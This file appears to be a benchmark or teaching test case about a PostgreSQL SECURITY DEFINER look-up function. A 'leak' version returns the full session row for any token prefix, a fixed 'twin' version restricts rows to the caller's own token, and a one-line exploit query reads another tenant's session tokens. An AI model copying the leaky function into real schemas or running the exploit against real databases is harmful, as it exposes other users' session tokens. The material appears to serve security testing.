-- A definer look-up for the policies returns the whole session row for any token prefix, not the tenant of a full token.
-- object: ctx.find_session(text)
-- base: third_session
--- setup
--- leak
CREATE FUNCTION ctx.find_session(prefix text) RETURNS SETOF ctx.login_session LANGUAGE sql STABLE SECURITY DEFINER SET search_path = ctx, pg_temp
    AS $$ SELECT * FROM login_session WHERE token LIKE prefix || '%' $$;
--- twin
CREATE FUNCTION ctx.find_session(prefix text) RETURNS SETOF ctx.login_session LANGUAGE sql STABLE SECURITY DEFINER SET search_path = ctx, pg_temp
    AS $$ SELECT * FROM login_session WHERE token = current_setting('ctx.token', true) AND token LIKE prefix || '%' $$;
--- exploit
SELECT token FROM ctx.find_session('') WHERE tenant_id = 2;
